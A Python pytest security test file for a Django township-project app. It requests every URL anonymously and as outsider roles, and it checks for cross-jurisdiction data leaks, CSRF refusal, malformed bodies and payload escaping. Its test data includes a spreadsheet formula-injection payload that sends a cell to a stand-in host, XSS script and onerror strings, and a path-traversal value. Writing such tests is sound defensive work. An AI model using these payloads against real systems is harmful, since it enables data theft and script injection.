"""An attacker's probe list: every URL of the app requested anonymously and as every role
of other jurisdictions, with the ids of a township's objects it must not see, without the
CSRF token, with oversized and malformed bodies, and with formula and script payloads in
every text field. No answer is a server error, no answer shows anything of that
township, and no export holds a formula."""

import io
import re
import uuid
import zipfile
from unittest import mock

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver

from core.forms import LONG_TEXT_MAX
from core.models import Project, Suggestion
from core.models.calendar import Notification, NotificationKind
from core.services import exports, imports, projects, supervision
from core.services.steps import open_task
from permissions.roles import Role
from tests.supervision.conftest import sibling  # noqa: F401  (fixture)
from tests.voting.session_setup import approved_session

pytestmark = pytest.mark.django_db

VICTIM = "qh-dh"
FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"详情")'
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def all_routes():
    """(route, url name) of every URL pattern, the admin's included."""

    def walk(patterns, prefix="", namespace=""):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                ns = pattern.namespace or ""
                yield from walk(
                    pattern.url_patterns,
                    prefix + str(pattern.pattern),
                    f"{namespace}{ns}:" if ns else namespace,
                )
            elif isinstance(pattern, URLPattern):
                yield prefix + str(pattern.pattern), f"{namespace}{pattern.name or ''}"

    return list(walk(get_resolver().url_patterns))


@pytest.fixture
def victim(world, make_case, user_of, settings, tmp_path):
    """A township's objects, each carrying a marker that must appear in no answer to an
    outsider."""
    settings.MEDIA_ROOT = tmp_path
    marker = f"VICTIM{uuid.uuid4().hex[:10]}"
    congress = user_of(VICTIM, Role.CONGRESS_OFFICE)
    case = make_case(VICTIM, to="study")
    project = case.project
    Project.objects.filter(pk=project.pk).update(title=f"{marker} 机密项目", content=marker)
    project.refresh_from_db()
    Suggestion.objects.filter(projects=project).update(title=f"{marker} 建议", text=marker)
    attachment = supervision.attachment_add(
        actor=congress,
        project=project,
        upload=SimpleUploadedFile(f"{marker}.pdf", f"%PDF {marker}".encode()),
    )
    projects.comment_add(actor=congress, project=project, text=f"{marker} 批注")
    candidates = [make_case(VICTIM, to="candidate").project for _ in range(3)]
    session = approved_session(world, candidates, rules={"seats": 2})
    from core.tasks.reporting import run_export

    with mock.patch.object(run_export, "delay"):
        job = exports.export_request(
            actor=congress, kind="progress", jurisdiction=world.jurisdictions[VICTIM], year=2026
        )
    batch = imports.import_preview(
        actor=congress,
        jurisdiction=world.jurisdictions[VICTIM],
        kind="offices",
        upload=SimpleUploadedFile(
            "offices.csv",
            f"单位代码,单位名称,单位类型,地区代码\nx-{marker},{marker},部门,{VICTIM}\n".encode(),
        ),
    )
    notification = Notification.objects.create(
        recipient=congress,
        kind=NotificationKind.STEP_OPENED,
        params={"project": project.title, "step": marker},
        url=f"/work/cases/{project.pk}/",
        project=project,
    )
    task = open_task(project.process, project.process.flow_class.study_feasibility)
    ids = {
        "core:case": project.pk,
        "core:attachment": attachment.pk,
        "core:suggestion_route": project.suggestions.first().pk,
        "voting:": session.pk,
        "calendar:": notification.pk,
        "supervision:export": job.pk,
        "supervision:import": batch.pk,
        "api-project": project.pk,
        "api-ballot": session.pk,
        "api-notification": notification.pk,
        "flows:": task.pk,
        "process_pk": project.process.pk,
    }
    return {"marker": marker, "ids": ids, "project": project, "insider": congress}


def concrete_url(route: str, name: str, ids: dict) -> str:
    def value(match):
        converter, param = match.group(1) or "str", match.group(2)
        if param == "process_pk":
            return str(ids["process_pk"])
        if converter == "int" and param == "year":
            return "2026"
        if converter == "int":
            key = next((k for k in ids if name.startswith(k) or k in name), "core:case")
            return str(ids[key])
        if param == "code":
            return VICTIM
        if param == "flow":
            return "project"
        if param == "step":
            return "study_feasibility"
        if param == "kind":
            return "deputies"
        return "x"

    path = re.sub(r"<(?:(\w+):)?(\w+)>", value, route)
    path = re.sub(r"[\^$]|\\Z", "", path).replace("(?P", "")
    return "/" + path


def probe_urls(ids) -> list[str]:
    urls = []
    for route, name in all_routes():
        if route.startswith("admin/") and "<" in route:
            continue  # the admin's object pages: covered by its own login and tests
        if "(?P" in route or "\\" in route:
            continue
        urls.append(concrete_url(route, name, ids))
    return sorted(set(urls))


@pytest.fixture
def attackers(world, sibling, user_of):  # noqa: F811
    """Anonymous, every role of the sibling township, and the sibling county's offices."""
    users = [None]
    for role in (
        Role.CONGRESS_OFFICE,
        Role.GOVERNMENT_OFFICE,
        Role.PARTY_OFFICE,
        Role.TELLER,
        Role.SUPERVISOR,
        "works",
    ):
        users.append(world.users[("qh-xs", role)])
    users.append(sibling.users[("qh2", Role.SUPERVISOR)])
    users.append(sibling.users[("qh2", Role.CONGRESS_OFFICE)])
    from django.contrib.auth.models import User

    users.append(User.objects.get(username="qh.xs.deputy1"))
    return users


def client_for(user, *, csrf=False) -> Client:
    client = Client(enforce_csrf_checks=csrf, raise_request_exception=False)
    if user is not None:
        client.force_login(user)
    return client


def body_of(response) -> str:
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content).decode(errors="replace")
    return response.content.decode(errors="replace")


def check(response, url, who, marker):
    assert response.status_code < 500, f"{who} {url}: {response.status_code}"
    text = body_of(response) + str(response.headers)
    assert marker not in text, f"{who} {url} shows the other township's data"


def text_field_names() -> set[str]:
    from django import forms as django_forms

    import core.deputies_forms
    import core.forms
    import core.views.calendar
    import flows.forms
    import flows.voting_forms

    names = {"title", "text", "note", "comment", "q", "code", "name", "reason"}
    modules = (
        core.forms,
        flows.forms,
        flows.voting_forms,
        core.deputies_forms,
        core.views.calendar,
    )
    for module in modules:
        for obj in vars(module).values():
            if isinstance(obj, type) and issubclass(obj, django_forms.BaseForm):
                names.update(obj.base_fields)
    return names


def test_every_url_refuses_outsiders_without_a_server_error_or_a_leak(victim, attackers):
    urls = probe_urls(victim["ids"])
    assert len(urls) > 40
    marker = victim["marker"]
    # the control: the township's own office does see its case and its file
    insider = client_for(victim["insider"])
    assert marker in body_of(insider.get(f"/work/cases/{victim['project'].pk}/"))
    assert marker in body_of(insider.get(f"/work/attachments/{victim['ids']['core:attachment']}/"))
    payload = {name: FORMULA for name in text_field_names()}
    payload.update({"text": SCRIPT, "title": SCRIPT, "marks": "{}", "kind": "progress"})
    for user in attackers:
        who = user.username if user else "anonymous"
        plain, strict = client_for(user), client_for(user, csrf=True)
        for url in urls:
            check(plain.get(url), url, who, marker)
            # without the CSRF token: refused before anything is read
            response = strict.post(url, payload)
            check(response, url, who, marker)
            if not url.startswith("/api/"):
                assert response.status_code in (403, 405, 302, 404), (who, url)
            # with it (the test client skips the check): the payloads in every field
            check(plain.post(url, payload), url, who, marker)
    project = Project.objects.get(pk=victim["project"].pk)
    assert project.stage == victim["project"].stage and marker in project.title


def test_oversized_and_malformed_bodies_get_a_client_error(victim, attackers):
    urls = [u for u in probe_urls(victim["ids"]) if not u.startswith("/admin/")]
    marker = victim["marker"]
    huge = "长" * (LONG_TEXT_MAX * 200)
    for user in (attackers[0], attackers[1], attackers[-2]):
        who = user.username if user else "anonymous"
        client = client_for(user)
        for url in urls:
            check(client.post(url, {"text": huge, "title": huge, "note": huge}), url, who, marker)
            check(
                client.post(
                    url, b"--xyz\r\nbroken", content_type="multipart/form-data; boundary=xyz"
                ),
                url,
                who,
                marker,
            )
            check(client.post(url, b"{not json", content_type="application/json"), url, who, marker)
            check(
                client.get(url, {"page": "x" * 5000, "year": "../../etc", "j": "\x00"}),
                url,
                who,
                marker,
            )


def test_payloads_in_the_public_form_and_comments_are_shown_as_text_and_exported_as_text(
    client, world, make_case, user_of, django_capture_on_commit_callbacks, settings, tmp_path
):
    """The other direction: payloads the township's own people write are escaped on the
    pages and stay text in every export."""
    settings.MEDIA_ROOT = tmp_path
    case = make_case(VICTIM, to="closed_commend")
    congress = user_of(VICTIM, Role.CONGRESS_OFFICE)
    client.force_login(congress)
    client.post(f"/work/cases/{case.project.pk}/comment/", {"text": SCRIPT})
    Project.objects.filter(pk=case.project.pk).update(title=FORMULA, fund_source=SCRIPT)
    html = client.get(f"/work/cases/{case.project.pk}/").content.decode()
    assert "<script>alert" not in html and "&lt;script&gt;alert" in html
    from core.tasks.reporting import run_export

    supervisor = user_of("qh", Role.SUPERVISOR)
    for kind in ("progress", "votes", "satisfaction"):
        with (
            mock.patch.object(run_export, "delay", side_effect=lambda *a: run_export(*a)),
            django_capture_on_commit_callbacks(execute=True),
        ):
            job = exports.export_request(
                actor=supervisor, kind=kind, jurisdiction=world.jurisdictions["qh"], year=2026
            )
        job.refresh_from_db()
        with job.file.open("rb") as handle:
            content = handle.read()
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                assert b"<f>" not in archive.read(name), (kind, name)
        sheet = openpyxl.load_workbook(io.BytesIO(content)).active
        cells = [c for row in sheet.iter_rows() for c in row]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert any(c.value == FORMULA for c in cells), kind
